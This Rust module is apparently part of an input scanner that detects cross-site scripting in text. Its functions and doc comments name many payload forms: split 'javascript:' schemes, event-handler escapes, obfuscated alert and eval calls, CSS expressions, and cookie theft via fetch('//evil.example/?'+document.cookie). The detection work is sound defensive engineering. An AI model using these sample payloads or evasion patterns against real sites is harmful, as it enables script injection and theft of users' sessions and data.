//! Script outside of tags: URLs that are code, ways out of a string or an attribute, calls that hide or steal.

use super::super::bytes::{
    DIGIT, Literals, NUL, QUOTE, SLASH, SPACE, WORD, any, eat_any, first, head, is, is_digit, is_letter, is_quote,
    is_space, is_word, last, near, of, places, split, split_near, split_until, tail, trim, until_near, word,
};
use super::super::kept::Kept;
use super::super::names::Name;
use super::super::rarely::{ends, is_one, skip, spaces, starts};
use super::super::reading::{Reading, Word};

/// How much white space, or how long a comment, may stand between two letters of a URL's scheme.
const SCHEME_GAP_MAX: usize = 48;

/// How far behind a URL's scheme something tells code from prose.
const CODE_REACH: usize = 64;

/// How far before a URL its selector and property are looked for.
const STYLE_REACH: usize = 96;

pub(super) fn find(reading: &Reading<'_>, written: Option<&Reading<'_>>, kept: Kept<'_>) -> Option<&'static str> {
    let text = reading.folded();
    kept.of(whole(text))
        .or_else(|| reading.words().find_map(|word| kept.of(at_word(word))))
        .or_else(|| if reading.has(const { of(b":(") }) { schemes(text, kept) } else { None })
        .or_else(|| if reading.has(const { QUOTE | of(b"*") }) { kept.of(string_escape(text)) } else { None })
        .or_else(|| if reading.has(const { of(b"[") }) { kept.of(symbols(text)) } else { None })
        .or_else(|| kept.of(hidden_by_encoding(reading, written?)))
}

/// A text that is nothing but a statement: `alert(1)`, `location='//evil.example'`.
fn whole(text: &[u8]) -> Option<&'static str> {
    let statement = trim(text);
    let statement = statement.strip_suffix(b";").unwrap_or(statement);
    let (name, behind) = word(statement);
    let found = match Name::of(name) {
        Name::Alert | Name::Confirm | Name::Prompt | Name::Eval => {
            let argument = behind.strip_prefix(b"(")?;
            let told = is_digit(first(argument))
                || is_quote(first(argument))
                || is_one(word(argument).0, any!["document", "location", "origin", "self", "this", "window"]);
            told && last(statement) == b')'
        }
        Name::Document | Name::SelfName | Name::Top | Name::Window | Name::Location => {
            let place = eat_any(behind, any![".location"]).unwrap_or(behind);
            let url = spaces(eat_any(place, any![".href"]).unwrap_or(place)).strip_prefix(b"=")?;
            let url = spaces(url);
            (place.len() < behind.len() || name == b"location")
                && is_quote(first(url))
                && starts(url.get(1..)?, any!["http", "//", "javascript:"])
        }
        _ => false,
    };
    found.then_some("cross_site_scripting.script_code")
}

/// The functions that attackers call first.
pub(super) fn is_call(rest: &[u8]) -> bool {
    let rest = skip(rest, const { SPACE | of(b"(") });
    let (name, behind) = word(rest);
    let direct = behind;
    let behind = spaces(behind);
    match Name::of(name) {
        Name::Eval | Name::Fetch | Name::Import => {
            matches!(first(direct), b'(' | b'`') || starts(direct, any![")("]) || starts(direct, any!["?.("])
        }
        Name::Alert
        | Name::Confirm
        | Name::Prompt
        | Name::Atob
        | Name::Settimeout
        | Name::Setinterval
        | Name::Print => {
            matches!(first(behind), b'(' | b'`') || starts(behind, any![")("]) || starts(behind, any!["?.("])
        }
        Name::Document | Name::Window | Name::SelfName | Name::Top | Name::Parent | Name::Globalthis => {
            first(direct) == b'[' && direct.get(1).is_some_and(|byte| is_quote(*byte) || *byte == b'/')
                || is_one(name, any!["window", "document"])
                    && first(behind) == b'.'
                    && is_word(first(behind.get(1..).unwrap_or_default()))
        }
        Name::Location => {
            first(behind) == b'=' && !starts(behind, any!["=="])
                || starts(behind, any![".href", ".hash", ".replace", ".assign", ".search"])
        }
        Name::Empty => starts(rest, any!["$.get"]),
        _ => false,
    }
}

fn at_word(word_at: Word<'_>) -> Option<&'static str> {
    let Word { before, text: name, after, name: known } = word_at;
    match first(name) {
        b'o' if name.len() > 4 && name.starts_with(b"on") => handler(before, name, after),
        b'a' | b'c' | b'p' | b'e' | b's' | b'f' | b'd' | b'i' | b'l' | b'w' | b't' | b'g' | b'u' => {
            named(known, before, name, after)
        }
        _ => None,
    }
}

fn named(known: Name, before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
    let called = spaces(after);
    match known {
        Name::Attributename => {
            let value = skip(spaces(spaces(after).strip_prefix(b"=")?), QUOTE);
            let (target, _) = split(value, const { WORD | of(b":") });
            let handler = target.len() > 4 && target.starts_with(b"on");
            (handler || is_one(target, any!["href", "xlink:href"])).then_some("cross_site_scripting.animated_attribute")
        }
        Name::Alert
        | Name::Confirm
        | Name::Prompt
        | Name::Eval
        | Name::Setinterval
        | Name::Settimeout
        | Name::Execscript
        | Name::Function
        | Name::Writeln
        | Name::Write => call(before, name, called),
        Name::Top
        | Name::SelfName
        | Name::Window
        | Name::Parent
        | Name::Frames
        | Name::Globalthis
        | Name::This
        | Name::Document => object(name, called),
        Name::Constructor => constructor(before, after),
        Name::Cookie | Name::Domain => theft(before.strip_suffix(b"document.")?),
        Name::Localstorage | Name::Sessionstorage => theft(before),
        Name::Expression => style(before, after),
        Name::Data => document_url(after),
        Name::Import => {
            let url = spaces(called.strip_prefix(b"(")?);
            (is_quote(first(url)) && starts(url.get(1..)?, any!["//", "data:"]))
                .then_some("cross_site_scripting.hidden_call")
        }
        Name::Find | Name::Foreach | Name::Some | Name::Every | Name::Filter => {
            let (function, behind) = word(spaces(called.strip_prefix(b"(")?));
            let list = ends(before, any!["]."]) && is_one(function, any!["alert", "eval", "confirm", "prompt"]);
            (list && first(behind) == b')').then_some("cross_site_scripting.hidden_call")
        }
        Name::Url => {
            let address = skip(spaces(called.strip_prefix(b"(")?), QUOTE);
            let property = tail(before, STYLE_REACH).trim_ascii_end();
            // A selector that asks what a value begins with: `input[value^=a]{background:url(//evil.example/?a)}`.
            let selects = property.contains(&b'[') && near(property, any!["^=", "$=", "*="]);
            if selects && starts(address, any!["http", "//"]) {
                return Some("cross_site_scripting.style_code");
            }
            let binding = ends(property, any!["-moz-binding:", "behavior:", "-moz-binding :"]);
            (binding && (starts(address, any!["http", "//", "#default"]) || ends(property, any!["binding:"])))
                .then_some("cross_site_scripting.style_code")
        }
        _ => None,
    }
}

/// A handler out of an attribute that is there: `" autofocus onfocus="alert(1)`.
fn handler(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
    let gap = last(before);
    if !(gap <= b' ' || matches!(gap, b'/' | b'+' | b'"' | b'\'' | b'`' | b'>' | b'\\')) || before.is_empty() {
        return None;
    }
    let value = spaces(spaces(after).strip_prefix(b"=")?);
    const EVENTS: &Literals = any![
        "error",
        "load",
        "focus",
        "blur",
        "click",
        "dblclick",
        "mouse",
        "pointer",
        "key",
        "toggle",
        "input",
        "change",
        "submit",
        "select",
        "copy",
        "cut",
        "paste",
        "drag",
        "drop",
        "animation",
        "transition",
        "wheel",
        "scroll",
        "resize",
        "begin",
        "start",
        "end",
        "repeat",
        "finish",
        "bounce",
        "touch",
        "page",
        "hash",
        "before",
        "after",
        "message",
        "popstate",
        "search",
        "show",
        "play",
        "can",
        "auxclick",
        "contextmenu",
        "ready",
        "xxx",
        "unhandled",
    ];
    if !starts(name.get(2..)?, EVENTS) {
        return None;
    }
    let code = skip(value, const { QUOTE | of(b"\\") });
    let (function, behind) = split(code, const { WORD | of(b"$.[]") });
    let quoted = code.len() < value.len() && !function.is_empty() && matches!(first(behind), b'(' | b'`' | b'=');
    (is_call(code) || quoted || is_script_url(code)).then_some("cross_site_scripting.attribute_escape")
}

/// A call whose argument, or whose way of being called, only hides something.
fn call(before: &[u8], name: &[u8], called: &[u8]) -> Option<&'static str> {
    let shows = is_one(name, any!["alert", "confirm", "prompt"]);
    let hidden = Some("cross_site_scripting.hidden_call");
    if shows && ends(before, any!["("]) && starts(called, any![")("])
        || shows && ends(before, any!["onerror="])
        || shows && starts(called, any!["?.("])
    {
        return hidden;
    }
    if shows && ends(before, any![".apply(", ".call(", ".map(", ".bind("]) {
        return hidden;
    }
    if name == b"eval" && ends(before, any!["(0,", "(1,"]) {
        return hidden;
    }
    if name == b"function"
        && (starts(called, any!["('", "(\"", "(`"]) || first(called) == b'`' && ends(before, any!["new "]))
        && near(called, any!["alert(", "eval(", "document.", "prompt("])
    {
        return hidden;
    }
    if shows && first(called) == b'`' {
        let (argument, behind) = split(called.get(1..)?, WORD);
        return (argument.len() <= 16 && first(behind) == b'`').then_some("cross_site_scripting.hidden_call");
    }
    if is_one(name, any!["settimeout", "setinterval"]) {
        let code = called.strip_prefix(b"(").map_or(called, spaces);
        return if first(called) == b'`' || is_quote(first(code)) && is_call(code.get(1..)?) { hidden } else { None };
    }
    if is_one(name, any!["write", "writeln"]) && !ends(before, any!["document."]) {
        return None;
    }
    if shows && ends(before, any!["${", "{"]) && matches!(first(called), b'(' | b'`') && ends(before, any!["${"]) {
        return Some("cross_site_scripting.string_escape");
    }
    let argument = spaces(called.strip_prefix(b"(")?);
    let (source, behind) = word(argument);
    let decoded = is_one(source, any!["atob", "unescape", "decodeuri", "decodeuricomponent"])
        || source == b"location" && first(behind) == b'.'
        || source == b"string" && behind.starts_with(b".fromcharcode")
        || name == b"eval" && is_one(source, any!["name", "window"]) && starts(behind, any![")", ".name"]);
    decoded.then_some("cross_site_scripting.hidden_call")
}

/// A member of the window by a name in pieces: `top['al'+'ert'](1)`.
fn object(name: &[u8], called: &[u8]) -> Option<&'static str> {
    let index = spaces(called.strip_prefix(b"[")?);
    let functions = any!["alert", "eval", "confirm", "prompt"];
    let found = match first(index) {
        b'\'' | b'"' | b'`' => {
            let (member, behind) = word(index.get(1..)?);
            let behind = skip(behind, QUOTE);
            is_one(member, functions)
                || starts(spaces(behind), any!["+"]) && is_quote(first(spaces(spaces(behind).get(1..)?)))
                || starts(index.get(1..)?, any!["\\x", "\\u"])
        }
        b'/' => split_near(index, b"/.source").is_some(),
        b'0'..=b'9' => starts(skip(index, DIGIT), any!["..tostring", ".tostring"]),
        _ => {
            starts(index, any!["atob"])
                || is_word(first(index))
                    && starts(word(index).1, any!["+"])
                    && starts(until_near(index, const { of(b"]") }), any!["]("])
                    && name == b"top"
        }
    };
    found.then_some("cross_site_scripting.hidden_call")
}

/// Code by way of a constructor: `constructor.constructor('alert(1)')()`.
fn constructor(before: &[u8], after: &[u8]) -> Option<&'static str> {
    let reached = matches!(last(before.trim_ascii_end()), b'.' | b'[' | b'\'' | b'"' | b'`')
        || ends(before.trim_ascii_end(), any!["{{"]);
    let rest = skip(after, const { QUOTE | SPACE | of(b"]") });
    let argument = rest.strip_prefix(b"(").map(spaces);
    let template = after.strip_prefix(b"`").filter(|code| matches!(first(word(code).1), b'\\' | b'(')).is_some();
    let again = skip(rest, const { QUOTE | SPACE | of(b".[") }).starts_with(b"constructor");
    let template = template || near(tail(before, 96), any!["{{"]);
    (reached
        && (argument.is_some_and(|argument| is_quote(first(argument)))
            || template
            || again && rest.len() < after.len().saturating_add(1)))
    .then_some("cross_site_scripting.constructor_call")
}

/// What scripts are stolen for: `fetch('//evil.example/?'+document.cookie)`.
fn theft(before: &[u8]) -> Option<&'static str> {
    let near_end = tail(before, 48);
    let inner = near_end.trim_ascii_end();
    let wrapped = inner.strip_suffix(b"(").map_or(inner, |call| {
        call.iter().rposition(|byte| !is_word(*byte)).map_or(b"".as_slice(), |at| call.get(..=at).unwrap_or_default())
    });
    let shown = ["alert(", "confirm(", "prompt(", "eval(", "alert`", "write("]
        .iter()
        .any(|call| near_end.ends_with(call.as_bytes()));
    let sent = |end: &[u8]| {
        let end = end.trim_ascii_end();
        if let Some(quoted) = end.strip_suffix(b"+") {
            let quoted = quoted.trim_ascii_end();
            let inside = quoted.split_last().filter(|(quote, _)| is_quote(**quote)).map(|(_, inside)| last(inside));
            return matches!(inside, Some(b'=' | b'/' | b'?' | b'&'));
        }
        ends(end, any!["=${", "/${", "?${", "&${"])
    };
    let beacon = near(near_end, any!["sendbeacon("]);
    (shown || sent(inner) || sent(wrapped) || beacon).then_some("cross_site_scripting.cookie_theft")
}

/// Style that is code: `width:expression(alert(1))`.
fn style(before: &[u8], after: &[u8]) -> Option<&'static str> {
    let opened = skip(after, const { SPACE | of(b"\\") });
    let property = before.iter().rev().take(8).find(|byte| !is_space(**byte) && **byte != b'\\' && **byte < 0x80);
    (first(opened) == b'('
        && (property == Some(&b':') && !ends(before, any!["::"]) || ends(before, any!["*/"]))
        && opened.len().saturating_add(1) >= after.len())
    .then_some("cross_site_scripting.style_code")
}

/// A URL that is a document: `data:text/html,<script>`.
fn document_url(after: &[u8]) -> Option<&'static str> {
    let kind = spaces(after).strip_prefix(b":")?;
    let kind = spaces(kind);
    let documents = any![
        "text/html",
        "text/xml",
        "text/javascript",
        "application/xhtml+xml",
        "application/javascript",
        "application/xml",
        "application/x-dom-event-stream",
    ];
    if let Some(behind) = eat_any(kind, documents) {
        return matches!(first(spaces(behind)), b',' | b';').then_some("cross_site_scripting.document_url");
    }
    let image = kind.strip_prefix(b"image/svg+xml")?;
    let (_, content) = split_near(image, b",")?;
    (content.starts_with(b"<svg") && near(content, any!["<script", "onload", "</svg>#"]))
        .then_some("cross_site_scripting.document_url")
}

/// Schemes that are code, with white space and slashes between their letters: `java\nscript:alert(1)`.
fn schemes(text: &[u8], kept: Kept<'_>) -> Option<&'static str> {
    // Two letters of one, or a letter and what may stand between.
    let begins = |pair: &[u8]| match pair {
        [b'j', b'a'] | [b'v', b'b'] | [b'm', b'o'] | [b'l', b'i'] | [b'e', b'x'] => true,
        [b'j' | b'v' | b'm' | b'l' | b'e', next] => is(*next, const { NUL | SPACE | SLASH }),
        _ => false,
    };
    let starts_of = text.windows(2).enumerate().filter(|(_, pair)| begins(pair));
    let starts_of = starts_of.filter_map(|(at, _)| text.split_at_checked(at));
    starts_of.filter(|(before, _)| !is_letter(last(before)) || last(before) == b'n').find_map(|(before, rest)| {
        if first(rest) == b'e' {
            let style = spaced(rest, b"expression")
                .filter(|behind| starts(skip(behind, const { SPACE | of(b"\\") }), any!["("]))
                .and_then(|behind| style(before, behind));
            return kept.of(style);
        }
        kept.of(is_script_url(rest).then_some("cross_site_scripting.script_url"))
    })
}

/// Whether `rest` is a URL that runs.
pub(super) fn is_script_url(rest: &[u8]) -> bool {
    if let Some(code) = spaced(rest, b"javascript:") {
        // Browsers leave out a line break or a tab between the letters; other readers do not.
        let scheme = rest.get(..rest.len().saturating_sub(code.len())).unwrap_or_default();
        return scheme.iter().any(|byte| *byte < b' ') || is_code(code);
    }
    if let Some(code) =
        spaced(rest, b"vbscript:").or_else(|| spaced(rest, b"livescript:")).or_else(|| spaced(rest, b"mocha:"))
    {
        let (name, behind) = word(spaces(code));
        return !name.is_empty() && matches!(first(behind), b'(' | b' ') || first(code) == b'[';
    }
    false
}

/// What follows a scheme, told from prose.
fn is_code(code: &[u8]) -> bool {
    if is_call(code) {
        return true;
    }
    if let Some(argument) = code.strip_prefix(b"void") {
        let argument = skip(argument, const { SPACE | of(b"(") });
        return !is_digit(first(argument)) && first(argument) != b')' && !argument.is_empty();
    }
    if code.starts_with(b"var") && !is_word(first(code.get(3..).unwrap_or_default())) {
        return true;
    }
    let (token, _) = split_until(head(code, CODE_REACH), SPACE);
    token.get(1..).unwrap_or_default().iter().any(|byte| matches!(byte, b'(' | b'`' | b'=' | b'[' | b'<'))
        || token.starts_with(b"//") && token.len() > 2
}

/// What follows `letters`, between which there may be white space, controls, backslashes and comments.
pub(super) fn spaced<'a>(rest: &'a [u8], letters: &[u8]) -> Option<&'a [u8]> {
    let mut rest = rest;
    for (index, letter) in letters.iter().enumerate() {
        if index > 0 && first(rest) != *letter {
            let gap = skip(head(rest, SCHEME_GAP_MAX), const { NUL | SPACE | of(b"\\") }).len();
            let skipped = head(rest, SCHEME_GAP_MAX).len().saturating_sub(gap);
            rest = rest.get(skipped..)?;
            while let Some(comment) = rest.strip_prefix(b"/*") {
                let len = head(comment, SCHEME_GAP_MAX).windows(2).position(|pair| pair == b"*/")?;
                rest = comment.get(len.saturating_add(2)..)?;
            }
        }
        rest = rest.strip_prefix(&[*letter])?;
    }
    Some(rest)
}

/// Out of a script's string, by the first quote of its kind: `';alert(1)//`.
fn string_escape(text: &[u8]) -> Option<&'static str> {
    let runs = |rest: &[u8]| {
        let code = skip(rest, const { SPACE | QUOTE | of(b"-;,+*/%^|&)}]<>=?:~!\\{") });
        let closed = spaces(rest).len() > code.len();
        closed && (is_call(code) || code.starts_with(b"function ") && near(code, any!["alert(", "eval("]))
    };
    if text.starts_with(b"*/") && runs(text) {
        return Some("cross_site_scripting.string_escape");
    }
    [b'\'', b'"', b'`']
        .iter()
        .filter_map(|quote| text.iter().position(|byte| byte == quote))
        .find_map(|at| runs(text.get(at.saturating_add(1)..)?).then_some("cross_site_scripting.string_escape"))
}

/// Script without letters.
fn symbols(text: &[u8]) -> Option<&'static str> {
    places(text, const { of(b"[") })
        .any(|(before, rest)| {
            rest.starts_with(b"[]+[])") && before.ends_with(b"(!")
                || rest.starts_with(b"[][[]]+") && (last(before) == b'(' || rest.get(7) == Some(&b'['))
        })
        .then_some("cross_site_scripting.hidden_call")
}

/// A call that was readable only after its encodings were undone: `al\u0065rt(1)`.
fn hidden_by_encoding(plain: &Reading<'_>, written: &Reading<'_>) -> Option<&'static str> {
    let is_call = |word: &Word<'_>| {
        matches!(word.name, Name::Alert | Name::Confirm | Name::Prompt | Name::Eval)
            && matches!(first(word.after), b'(' | b'`')
    };
    let calls = |reading: &Reading<'_>| reading.words().filter(is_call).count();
    let plain = calls(plain);
    (plain > 0 && plain > calls(written)).then_some("cross_site_scripting.hidden_call")
}
